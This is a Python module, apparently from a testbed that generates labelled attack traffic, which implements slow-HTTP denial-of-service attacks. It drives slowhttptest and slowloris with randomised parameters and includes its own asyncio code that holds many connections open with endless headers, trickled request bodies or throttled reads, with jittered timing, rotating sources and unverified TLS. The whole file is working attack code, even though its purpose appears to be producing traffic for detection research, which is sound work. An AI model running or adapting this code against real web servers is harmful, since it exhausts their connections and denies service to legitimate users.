"""Slow HTTP: connections that hold a server by saying or reading next to nothing.

Owns: slowhttptest, slowloris and our own slow headers, bodies and reads, over HTTP and HTTPS. In: a context and bounds.
Out: few bytes on many connections; truth by program and target, or by socket.
"""

import asyncio
import socket
import ssl

from ..catalog import hostile
from ..draws import log_uniform
from ..tls import unverified
from .crew import Bounds, address_of, run_bounded, together, url, victim

WEB = {"nginx": (80, 443), "weakweb": (8080, None), "api": (8000, None)}
AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
    "curl/8.5.0",
)


def web_target(ctx, where=None, *, tls=None, six_share=0.15) -> tuple[str, int, bool]:
    """Address, port and TLS of a web server."""
    host = victim(ctx, *WEB, where=where)
    name = ctx.rng.choice([n for n in WEB if host.offers(n)])
    plain, secure = WEB[name]
    if secure and (tls if tls is not None else ctx.rng.random() < 0.3):
        return address_of(ctx, host, six_share), int(host.offers(name).options.get("tls_port", secure)), True
    return address_of(ctx, host, six_share), host.port(name, plain), False


@hostile("slow-http-slowhttptest", label="dos", tool="slowhttptest", technique="T1499.002")
async def slowhttptest(ctx, flows, seconds, *, where=None, mode=None):
    """Slow headers (-H), bodies (-B), ranges (-R) or reads (-X), with drawn connections, rates and intervals."""
    rng = ctx.rng
    address, port, tls = web_target(ctx, where)
    mode = mode or rng.choice("HHBBXXR")
    count = max(1, min(round(flows * 0.85), round(log_uniform(rng, 10, 1000))))
    rate = max(
        1, round(log_uniform(rng, max(1.0, 2 * count / seconds), max(2.0, 2 * count / seconds, min(count, 200))))
    )
    argv = [
        "nice", "-n", "19", "slowhttptest",  # it polls without rest
        f"-{mode}",
        "-c",
        str(count),
        "-r",
        str(rate),
        "-l",
        str(max(int(seconds) - 1, 2)),
        "-i",
        str(round(log_uniform(rng, 1, 60))),
        "-x",
        str(round(log_uniform(rng, 2, 200))),
        "-p",
        str(rng.randint(2, 30)),
        "-u",
        url(address, port, tls, rng.choice(("/", "/p/1.html", "/f/100000", "/f/2000000", "/login", "/upload"))),
    ]
    if mode == "B":
        argv += [
            "-s",
            str(round(log_uniform(rng, 64, 100_000))),
            *(["-t", rng.choice(("POST", "PUT"))] if rng.random() < 0.5 else []),
        ]
    if mode == "X":
        low = rng.randint(1, 400)
        argv += [
            "-w",
            str(low),
            "-y",
            str(low + rng.randint(1, 1500)),
            "-n",
            str(rng.randint(1, 10)),
            "-z",
            str(rng.randint(4, 200)),
            "-k",
            str(rng.randint(1, 5)),
        ]
    if mode == "R":
        argv += ["-a", str(rng.randint(1, 10)), "-b", str(rng.randint(200, 3000)), "-t", rng.choice(("HEAD", "GET"))]
    await run_bounded(ctx, argv, to=[(address, port, "tcp")], flows=flows, seconds=seconds)


@hostile("slow-http-slowloris", label="dos", tool="slowloris", technique="T1499.002")
async def slowloris(ctx, flows, seconds, *, where=None):
    """The well-known script: headers without an end, sockets replaced when the server drops them."""
    rng = ctx.rng
    address, port, tls = web_target(ctx, where, six_share=0)
    argv = [
        ctx.bed.python,
        "-m",
        "slowloris",
        address,
        "-p",
        str(port),
        "-s",
        str(max(1, min(flows // 2, round(log_uniform(rng, 10, 600))))),
        "--sleeptime",
        str(round(log_uniform(rng, 1, 30))),
        *(["--https"] if tls else []),
        *(["-ua"] if rng.random() < 0.5 else []),
    ]
    await run_bounded(ctx, argv, to=[(address, port, "tcp")], flows=flows, seconds=seconds)


def _drip(rng, mode, address):
    """A beginning that is never ended, and a function for what follows it."""
    host = f"[{address}]" if ":" in address else address
    path = rng.choice(("/", "/login", "/upload", "/search?q=" + str(rng.randrange(999)), "/p/2.html"))
    common = f"Host: {host}\r\nUser-Agent: {rng.choice(AGENTS)}\r\n"
    if mode == "headers":
        start = f"{rng.choice(('GET', 'GET', 'POST', 'HEAD'))} {path} HTTP/1.1\r\n{common}"
        width = rng.randint(1, 60)
        return start.encode(), lambda: f"X-{rng.randrange(10**6)}: {'a' * rng.randint(1, width)}\r\n".encode()
    if mode == "body":
        start = (
            f"POST {path} HTTP/1.1\r\n{common}Content-Type: application/x-www-form-urlencoded\r\n"
            f"Content-Length: {round(log_uniform(rng, 500, 5e6))}\r\n\r\n"
        )
        width = round(log_uniform(rng, 1, 60))
        return start.encode(), lambda: b"b" * rng.randint(1, width)
    size = round(log_uniform(rng, 100_000, 20_000_000))
    return f"GET /f/{size} HTTP/1.1\r\n{common}Accept: */*\r\n\r\n".encode(), lambda: b""


@hostile("slow-http-python", label="dos", tool="asyncio", technique="T1499.002")
async def slow_python(ctx, flows, seconds, *, where=None, mode=None, gap_s=None):
    """Our own slow headers, bodies and reads: jittered gaps, connections that come and go at their own pace."""
    rng, bounds = ctx.rng, Bounds(ctx, flows, seconds)
    address, port, tls = web_target(ctx, where)
    mode = mode or rng.choice(("headers", "body", "read"))
    gap_s = gap_s or log_uniform(rng, 0.5, 40)
    jitter = rng.uniform(0, 0.8)
    ramp_s = log_uniform(rng, 0.5, max(1.0, seconds / 2))
    hands = max(1, min(flows, 200, round(log_uniform(rng, 5, 200))))
    window = rng.randint(1024, 8192)
    many_sources = rng.random() < 0.3 and ":" not in address

    async def hold(number):
        await ctx.sleep(ramp_s * number / hands)
        while bounds.take():
            if many_sources:
                ctx.pick_source()
            try:
                await _hold(
                    ctx,
                    bounds,
                    address,
                    port,
                    tls,
                    _drip(rng, mode, address),
                    gap_s,
                    jitter,
                    window if mode == "read" else None,
                )
            except (OSError, TimeoutError, ssl.SSLError):
                pass
            await ctx.sleep(min(rng.expovariate(1 / max(gap_s, 1)), max(bounds.left_s, 0)))

    await together(ctx, [hold(number) for number in range(hands)])


async def _hold(ctx, bounds, address, port, tls, drip, gap_s, jitter, window):
    """One connection, held until the server ends it or time is up."""
    start, more = drip
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    client = socket.socket(family, socket.SOCK_STREAM)
    client.setblocking(False)
    if window:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
    context = unverified() if tls else None
    writer = None
    try:
        await asyncio.wait_for(asyncio.get_running_loop().sock_connect(client, (address, port)), 10)
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(
                sock=client, ssl=context, server_hostname="" if context else None, limit=max(window or 0, 1024)
            ),
            10,
        )
        writer.write(start)
        while bounds.left_s > 0:
            await ctx.sleep(min(gap_s * ctx.rng.uniform(1 - jitter, 1 + jitter), bounds.left_s))
            piece = more()
            if piece:
                writer.write(piece)
                await writer.drain()
            if reader.at_eof() or (window and not await asyncio.wait_for(reader.read(ctx.rng.randint(16, window)), 60)):
                return
    finally:
        if writer is not None:
            writer.transport.abort()
        client.close()
